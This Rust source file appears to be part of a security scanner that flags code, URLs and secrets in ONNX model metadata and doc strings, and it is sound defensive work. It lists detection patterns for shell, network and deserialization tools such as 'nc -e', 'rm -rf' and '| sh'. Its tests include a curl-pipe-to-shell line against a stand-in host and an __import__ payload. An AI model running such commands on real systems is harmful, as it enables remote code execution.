//! Free text in a model (metadata, doc strings, producer fields): commands or code,
//! URLs, and credentials (found by [`crate::analyze::secrets`], reported under its SEC
//! rules).

use crate::analyze::secrets;
use crate::engine::{FileScan, Loc};
use crate::rules::code;
use assay_formats::onnx::OnnxModel;
use assay_report::Severity;

/// Findings per model from free text; the rest are counted in one last finding.
const MAX_TEXT_FINDINGS: usize = 50;

/// What a string holds that a reviewer should see.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Concern {
    /// A command or code that runs other code: the patterns matched, and the text around
    /// the first.
    Code(String, String),
    Url(String),
}

/// Python and shell fragments that run code, fetch-and-run, or spawn processes. Matched
/// case-insensitively; `word` patterns must not run on into a letter.
const CODE_PATTERNS: &[(&str, bool)] = &[
    ("os.system", false),
    ("os.popen", false),
    ("subprocess.", false),
    ("__import__", false),
    ("eval(", false),
    ("exec(", false),
    ("pty.spawn", false),
    ("socket.socket", false),
    ("pickle.loads", false),
    ("marshal.loads", false),
    ("importlib.import_module", false),
    ("| sh", true),
    ("|sh", true),
    ("| bash", true),
    ("|bash", true),
    ("bash -c", false),
    ("sh -c ", false),
    ("/bin/sh", true),
    ("/bin/bash", true),
    ("powershell", true),
    ("cmd.exe", true),
    ("nc -e", false),
    ("rm -rf", false),
    ("chmod +x", false),
    ("curl http", false),
    ("curl -", false),
    ("wget http", false),
];

const URL_SCHEMES: &[&str] = &["http://", "https://", "ftp://", "s3://", "gs://"];

/// Code and URLs in `s`: one concern for all code patterns, one per URL scheme.
pub(crate) fn concerns(s: &str) -> Vec<Concern> {
    let mut out = Vec::new();
    let lower = s.to_ascii_lowercase();
    let mut code: Option<(Vec<&'static str>, usize, usize)> = None;
    for (pat, word) in CODE_PATTERNS {
        let mut from = 0;
        while let Some(i) = lower.get(from..).and_then(|r| r.find(pat)) {
            let at = from + i;
            let end = at + pat.len();
            let boundary = !word
                || !lower
                    .as_bytes()
                    .get(end)
                    .is_some_and(u8::is_ascii_alphanumeric);
            if boundary {
                match &mut code {
                    Some((pats, _, _)) => pats.push(pat),
                    None => code = Some((vec![pat], at, end)),
                }
                break;
            }
            from = end;
        }
    }
    if let Some((pats, at, end)) = code {
        out.push(Concern::Code(pats.join(", "), around(s, at, end)));
    }
    for scheme in URL_SCHEMES {
        if let Some(i) = lower.find(scheme) {
            let rest = &s[i..];
            let end = rest
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')'))
                .unwrap_or(rest.len());
            out.push(Concern::Url(clip(&rest[..end], 120).to_string()));
        }
    }
    out
}

fn around(s: &str, start: usize, end: usize) -> String {
    let from = s[..start]
        .char_indices()
        .rev()
        .nth(40)
        .map(|(i, _)| i)
        .unwrap_or(0);
    let to = s[end..]
        .char_indices()
        .nth(60)
        .map(|(i, _)| end + i)
        .unwrap_or(s.len());
    s[from..to].replace('\n', "\\n")
}

fn clip(s: &str, n: usize) -> &str {
    match s.char_indices().nth(n) {
        Some((i, _)) => &s[..i],
        None => s,
    }
}

/// Checks every free-text field of the model.
pub fn check_model(ctx: &mut FileScan, model: &OnnxModel, loc: &Loc) {
    let mut fields: Vec<(String, &str)> = vec![
        ("producer_name".into(), model.producer_name.as_str()),
        ("producer_version".into(), model.producer_version.as_str()),
        ("domain".into(), model.domain.as_str()),
        ("model doc_string".into(), model.doc_string.as_str()),
    ];
    for m in &model.metadata {
        fields.push((format!("{} metadata key", m.place), m.key.as_str()));
        fields.push((
            format!("{} metadata {:?}", m.place, clip(&m.key, 60)),
            m.value.as_str(),
        ));
    }
    for d in &model.doc_strings {
        fields.push((format!("{} doc_string", d.place), d.text.as_str()));
    }
    let mut reported = 0usize;
    let mut over = 0usize;
    for (field, value) in fields {
        for c in concerns(value) {
            if reported == MAX_TEXT_FINDINGS {
                over += 1;
                continue;
            }
            reported += 1;
            let (sev, message, evidence) = match c {
                Concern::Code(pat, around) => (
                    Severity::High,
                    format!("{field} holds a command or code ({pat})"),
                    around,
                ),
                Concern::Url(u) => (Severity::Medium, format!("{field} holds a URL"), u),
            };
            ctx.add(code::ONX005, sev, loc, None, message, Some(evidence));
        }
        for s in secrets::find(value) {
            if reported == MAX_TEXT_FINDINGS {
                over += 1;
                continue;
            }
            reported += 1;
            ctx.add(
                s.rule,
                Severity::Medium,
                loc,
                None,
                format!("{field} holds a {}", s.kind),
                Some(s.masked),
            );
        }
    }
    if over > 0 {
        ctx.add(
            code::ONX005,
            Severity::Medium,
            loc,
            None,
            format!("{over} more suspicious strings in metadata and doc strings"),
            None,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_urls_and_secrets() {
        let c = concerns("setup: curl http://example.invalid/x.sh | sh");
        assert!(
            c.iter()
                .any(|c| matches!(c, Concern::Code(p, _) if p == "| sh, curl http"))
        );
        assert!(c.contains(&Concern::Url("http://example.invalid/x.sh".into())));
        assert!(
            matches!(&concerns("__import__('os').system('echo pwned')")[0], Concern::Code(p, _) if p == "__import__")
        );
    }

    #[test]
    fn ordinary_text_is_quiet() {
        for s in [
            "pytorch",
            "2.5.1",
            "Converted from PyTorch | shape (1, 3)",
            "torch/nn/modules/linear.py(125): forward\n/usr/lib/python3/site-packages/torch/nn/modules/module.py(1747): _call_impl",
            "A model that evaluates(sentiment) of text",
            "sharpen | shader",
        ] {
            assert!(concerns(s).is_empty(), "{s}: {:?}", concerns(s));
        }
    }
}
